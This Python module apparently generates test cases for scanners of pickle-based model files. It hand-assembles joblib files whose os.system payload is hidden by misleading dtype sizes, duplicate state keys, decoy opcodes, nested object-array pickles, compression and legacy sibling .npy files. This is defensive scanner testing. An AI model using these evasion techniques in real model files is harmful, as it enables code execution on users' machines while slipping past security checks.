"""Class 2 — joblib framing desync.

A joblib file is one pickle with raw array bytes spliced in: after the BUILD of each
``NumpyArrayWrapper`` joblib reads ``count * dtype.itemsize`` bytes (after a padding-length
byte and that many padding bytes when the state has ``numpy_array_alignment_bytes``), or,
for object dtypes, a whole nested pickle with a plain unpickler; then the outer opcodes go
on. A scanner that gets that length wrong resumes parsing at the wrong offset.

Every entry is hand-assembled (``pk``): dict ``{"a": <array>}``; the payload sits right
after the real array bytes, and the array bytes carry decoys — ``SETITEM STOP`` planted at
every offset a naive reading could land on (item size from the digits of the dtype
string: ``U3`` is 12 bytes an item, not 3; ``S5``/``V8`` whose pickled dtype state
carries a larger elsize; the first of duplicate state keys where the unpickler keeps the
last). Also: payloads inside the nested object-array pickle, the padding bytes, the
joblib <= 0.9 ``NDArrayWrapper`` that ``np.load``s a sibling file with ``allow_pickle``,
and gzip/zlib/lzma/bz2-compressed joblib files.
"""

from __future__ import annotations

import bz2
import gzip
import lzma
import re
import struct
import zlib
from pathlib import Path
from typing import Any

from . import JOBLIB, Entry, base, in_folder, pk

P = pk.sglob("os", "system")  # the payload's callable (plain: the desync is what hides it)
DECOY = pk.SETITEM + pk.STOP


def payload() -> bytes:
    return pk.call(P, pk.s(pk.SH)) + pk.POP


def dtype_ops(descr: str, elsize: int | None = None, align: int | None = None,
              byteorder: str | None = None) -> bytes:
    """``numpy.dtype(descr, False, True)`` + BUILD of its state tuple, as numpy reduces it,
    with the state's elsize / alignment / byte order replaced when given."""
    import numpy as np

    reduced: Any = np.dtype(descr).__reduce__()
    _fn, args, state = reduced
    version, order, subarray, names, fields, el, al, flags = state[:8]
    el = el if elsize is None else elsize
    al = al if align is None else align
    order = order if byteorder is None else byteorder

    def intop(n: int) -> bytes:
        return pk.binint(n) if n >= 0 else b"J" + struct.pack("<i", n)

    assert subarray is None and names is None and fields is None
    extra = b""
    if len(state) == 9:  # datetime metadata: (None, (unit, num, den, events))
        unit = state[8][1]
        extra = (pk.NONE + pk.MARK + pk.binbytes(unit[0])
                 + b"".join(intop(n) for n in unit[1:]) + pk.TUPLE + pk.TUPLE2)
    st = (pk.MARK + intop(version) + pk.s(order) + pk.NONE + pk.NONE + pk.NONE
          + intop(el) + intop(al) + intop(flags) + extra + pk.TUPLE)
    return (pk.call(pk.sglob("numpy", "dtype"), pk.s(args[0]), pk.NEWFALSE, pk.NEWTRUE)
            + st + pk.BUILD)


def shape_ops(shape: tuple[int, ...]) -> bytes:
    return pk.MARK + b"".join(pk.binint(n) for n in shape) + pk.TUPLE


def wrapper(state: list[tuple[str, bytes]]) -> bytes:
    """``NumpyArrayWrapper`` built from ``state`` (key, value ops), keys possibly repeated."""
    return (pk.sglob("joblib.numpy_pickle", "NumpyArrayWrapper") + pk.EMPTY_TUPLE + pk.NEWOBJ
            + pk.EMPTY_DICT + pk.MARK
            + b"".join(pk.s(k) + v for k, v in state) + pk.SETITEMS + pk.BUILD)


def std_state(shape, dtype: bytes, align: int | None = 16) -> list[tuple[str, bytes]]:
    st = [("subclass", pk.sglob("numpy", "ndarray")), ("shape", shape_ops(shape)),
          ("order", pk.s("C")), ("dtype", dtype), ("allow_mmap", pk.NEWFALSE)]
    if align is not None:
        st.append(("numpy_array_alignment_bytes", pk.binint(align)))
    return st


def with_decoys(n: int, offsets) -> bytearray:
    data = bytearray(n)
    last = -10
    for off in sorted(set(o for o in offsets if 0 <= o <= n - 2)):
        if off - last >= 2:
            data[off:off + 2] = DECOY
            last = off
    return data


def naive_offsets(count: int, descr: str, real_itemsize: int) -> set[int]:
    """Offsets a wrong item size would resume at: the dtype string's digits (as bytes or
    bits), 1, 2, 4, 8, 16 bytes an item."""
    cands = {1, 2, 4, 8, 16}
    digits = [int(d) for d in re.findall(r"\d+", descr)]
    for d in digits:
        cands |= {d, max(1, d // 8)}
    return {count * c for c in cands if c != real_itemsize}


def joblib_file(state, array: bytes | bytearray, *, pad: bytes | None = b"\x0f" + b"\xff" * 15,
                tail_payload: bool = True, head: bytes = b"") -> bytes:
    """The whole file: ``{"a": array}`` with the payload after the array bytes."""
    body = (pk.proto(4) + head + pk.EMPTY_DICT + pk.s("a") + wrapper(state))
    out = body + (pad if pad is not None else b"") + bytes(array)
    out += (payload() if tail_payload else b"") + pk.SETITEM + pk.STOP
    return out


def padding_for(prefix_len: int, align: int = 16) -> bytes:
    """joblib's padding: one length byte then that many bytes, aligning what follows."""
    n = align - ((prefix_len + 1) % align)
    return bytes([n]) + b"\xff" * n


def dtype_entry(variant: str, descr: str, itemsize: int, count: int, note: str,
                elsize: int | None = None, quick: bool = False) -> Entry:
    """An array of ``count`` items of ``descr`` (``itemsize`` bytes each, which the pickled
    state's ``elsize`` overrides for flexible dtypes when given)."""
    elsize = itemsize if elsize is None else elsize

    def make(p: Path) -> None:
        dt = dtype_ops(descr, elsize=elsize if descr[0] in "SVU" else None)
        state = std_state((count,), dt)
        head_len = len(pk.proto(4) + pk.EMPTY_DICT + pk.s("a") + wrapper(state))
        arr = with_decoys(count * elsize, naive_offsets(count, descr, elsize))
        base.write(p, joblib_file(state, arr, pad=padding_for(head_len)))

    return Entry("2-joblib", variant, f"2-joblib/{variant}.joblib", make, JOBLIB, note,
                 quick=quick)


def filler(n: int) -> bytes:
    """``n`` (>= 2) bytes of stack-neutral opcodes: MARK POP_MARK pairs, BININT1 POP."""
    assert n >= 2 or n == 0
    out = b""
    while n and n != 3 and n != 2:
        out += pk.MARK + pk.POP_MARK
        n -= 2
    if n == 3:
        out += pk.binint(0) + pk.POP
    elif n == 2:
        out += pk.MARK + pk.POP_MARK
    return out


def entries() -> list[Entry]:
    out = [
        dtype_entry("dtype-U3", "U3", 12, 16, "'U3' is 12 bytes an item (UCS-4), not 3",
                    quick=True),
        dtype_entry("dtype-S5-elsize64", "S5", 64, 8,
                    "'S5' whose pickled dtype state says elsize 64 (numpy applies it)"),
        dtype_entry("dtype-V8-elsize200", "V8", 200, 4,
                    "'V8' whose pickled dtype state says elsize 200"),
        dtype_entry("dtype-U0-elsize40", "U", 40, 6,
                    "unsized 'U0' dtype, elsize 40 from the state only"),
        dtype_entry("dtype-c16", "c16", 16, 8, "complex128: 16 bytes an item"),
        dtype_entry("dtype-M8ns", "M8[ns]", 8, 8,
                    "datetime64[ns] (pickled as 'M8' plus unit metadata)"),
    ]

    # duplicate state keys: the unpickler keeps the last value, a naive reader the first
    def dup_entry(variant: str, note: str, first: list, last: list, count_real: int,
                  itemsize_real: int, naive_n: int, quick: bool = False) -> Entry:
        def make(p: Path) -> None:
            st = std_state((count_real,), dtype_ops("f8"))
            st = [(k, v) for k, v in st if k not in {x for x, _ in last}]
            state = first + st + last
            head = pk.proto(4) + pk.EMPTY_DICT + pk.s("a") + wrapper(state)
            pad = padding_for(len(head))
            real_n = count_real * itemsize_real
            if naive_n < real_n:  # undershoot: decoy inside the array bytes
                data = joblib_file(state, with_decoys(real_n, {naive_n}), pad=pad)
            else:  # overshoot: the naive reading skips the payload; decoy where it lands
                gap = naive_n - real_n - len(payload())
                tail = payload() + filler(gap) + pk.SETITEM + pk.STOP
                data = head + pad + bytes(real_n) + tail
            base.write(p, data)

        return Entry("2-joblib", variant, f"2-joblib/{variant}.joblib", make, JOBLIB, note,
                     quick=quick)

    out.append(dup_entry("dupkey-shape-small-then-large",
                         "state dict repeats 'shape': (2,) first, (64,) last",
                         [("shape", shape_ops((2,)))], [("shape", shape_ops((64,)))],
                         64, 8, 16, quick=True))
    out.append(dup_entry("dupkey-shape-large-then-small",
                         "state dict repeats 'shape': (200,) first, (4,) last (naive skips "
                         "over the payload)",
                         [("shape", shape_ops((200,)))], [("shape", shape_ops((4,)))],
                         4, 8, 1600))
    out.append(dup_entry("dupkey-dtype-u1-then-f8",
                         "state dict repeats 'dtype': uint8 first, float64 last",
                         [("dtype", dtype_ops("u1"))],
                         [("dtype", dtype_ops("f8"))], 32, 8, 32))
    out.append(dup_entry("dupkey-dtype-f8-then-u1",
                         "state dict repeats 'dtype': float64 first, uint8 last",
                         [("dtype", dtype_ops("f8"))],
                         [("dtype", dtype_ops("u1"))], 64, 1, 512))

    def align_entry(variant: str, note: str, first_align, last_align: int) -> Entry:
        def make(p: Path) -> None:
            st = std_state((8,), dtype_ops("f8"), align=None)
            if first_align is not None:
                st.insert(0, ("numpy_array_alignment_bytes", first_align))
            st.append(("numpy_array_alignment_bytes", pk.binint(last_align)))
            # 200 padding bytes (the length byte says so): decoys all through them
            pad = bytes([200]) + bytes(with_decoys(200, range(0, 200, 2)))
            base.write(p, joblib_file(st, bytes(64), pad=pad))

        return Entry("2-joblib", variant, f"2-joblib/{variant}.joblib", make, JOBLIB, note)

    out.append(align_entry("padding-200-decoys", "a 200-byte alignment padding (joblib "
                           "writes < 16) made of SETITEM STOP decoys", None, 16))
    out.append(align_entry("dupkey-alignment-none-then-16", "'numpy_array_alignment_bytes' "
                           "None first (no padding), 16 last (padding read)",
                           pk.NONE, 16))

    def nested(variant: str, note: str, inner_protocol: int, compress=None) -> Entry:
        def make(p: Path) -> None:
            # object dtype: joblib reads the array as a nested pickle with a plain Unpickler
            st = std_state((2,), dtype_ops("O"))
            import numpy as np

            arr = np.array([1, "x"], dtype=object)
            import pickle

            inner = pickle.dumps(arr, protocol=inner_protocol)
            inner = pk.inject(inner, pk.system(protocol=inner_protocol))
            data = (pk.proto(4) + pk.EMPTY_DICT + pk.s("a") + wrapper(st) + inner
                    + pk.SETITEM + pk.STOP)
            base.write(p, compress(data) if compress else data)

        return Entry("2-joblib", variant, f"2-joblib/{variant}.joblib", make, JOBLIB, note)

    out.append(nested("object-array-nested-pickle", "payload inside the nested object-array "
                      "pickle (joblib reads it with a plain Unpickler)", 5))
    out.append(nested("object-array-nested-protocol0", "the nested pickle is protocol 0 "
                      "(text GLOBAL, no PROTO)", 0))

    # compressed joblib: joblib detects the compressor from the magic bytes
    def compressed(variant: str, note: str, fn, inner: str, quick: bool = False) -> Entry:
        def make(p: Path) -> None:
            tmp = p.with_suffix(".raw")
            src = next(e for e in out if e.variant == inner)
            src.make(tmp)
            raw = tmp.read_bytes()
            tmp.unlink()
            base.write(p, fn(raw))

        return Entry("2-joblib", variant, f"2-joblib/{variant}.joblib", make, JOBLIB, note,
                     quick=quick)

    out.append(compressed("gzip+dtype-U3", "gzip-compressed (joblib compress='gzip')",
                          lambda b: gzip.compress(b, mtime=0), "dtype-U3", quick=True))
    out.append(compressed("zlib+dupkey-shape", "zlib-compressed (joblib's default "
                          "compressor: a raw zlib stream)", lambda b: zlib.compress(b, 3),
                          "dupkey-shape-small-then-large"))
    out.append(compressed("lzma+object-array", "xz-compressed (compress='xz')",
                          lambda b: lzma.compress(b), "object-array-nested-pickle"))
    out.append(compressed("bz2+padding", "bz2-compressed (compress='bz2')",
                          lambda b: bz2.compress(b), "padding-200-decoys"))
    out.append(compressed("lzma-alone+dtype-S5", "legacy .lzma container (compress='lzma')",
                          lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE),
                          "dtype-S5-elsize64"))

    def plain_zlib(p: Path) -> None:
        # a real joblib.dump(compress=3) of a RandomForest with the plain payload spliced in
        raw = pk.inject(base.joblib_bytes(base.sk_model("rf")), pk.system())
        base.write(p, zlib.compress(raw, 3))

    out.append(Entry("2-joblib", "zlib+plain-payload", "2-joblib/zlib-plain.joblib",
                     plain_zlib, JOBLIB, "zlib-compressed RandomForest with a plain os.system "
                     "at the start (only the compression hides it)", quick=True))

    def ndarray_wrapper(p: Path) -> None:
        # joblib <= 0.9 layout: the pickle names a sibling .npy file, which joblib loads with
        # np.load(allow_pickle=True); the sibling holds an object array whose pickle is evil
        import numpy as np

        p.mkdir(parents=True, exist_ok=True)
        main = (pk.proto(2) + pk.EMPTY_DICT + pk.s("a")
                + pk.sglob("joblib.numpy_pickle_compat", "NDArrayWrapper") + pk.EMPTY_TUPLE
                + pk.NEWOBJ + pk.EMPTY_DICT + pk.MARK + pk.s("filename")
                + pk.s("model.pkl_01.npy") + pk.s("subclass") + pk.sglob("numpy", "ndarray")
                + pk.s("allow_mmap") + pk.NEWFALSE + pk.SETITEMS + pk.BUILD
                + pk.SETITEM + pk.STOP)
        base.write(p / "model.pkl", main)
        import io

        buf = io.BytesIO()
        np.save(buf, np.array([1, "x"], dtype=object), allow_pickle=True)
        npy = buf.getvalue()
        hlen = struct.unpack("<H", npy[8:10])[0]
        head, body = npy[:10 + hlen], npy[10 + hlen:]
        base.write(p / "model.pkl_01.npy", head + pk.inject(body, pk.system()))

    out.append(Entry("2-joblib", "NDArrayWrapper-sibling-npy", "2-joblib/ndarraywrapper",
                     ndarray_wrapper, in_folder(JOBLIB, "model.pkl"),
                     "joblib <= 0.9 NDArrayWrapper: model.pkl is clean, joblib np.load()s "
                     "the sibling model.pkl_01.npy with allow_pickle=True"))
    return out
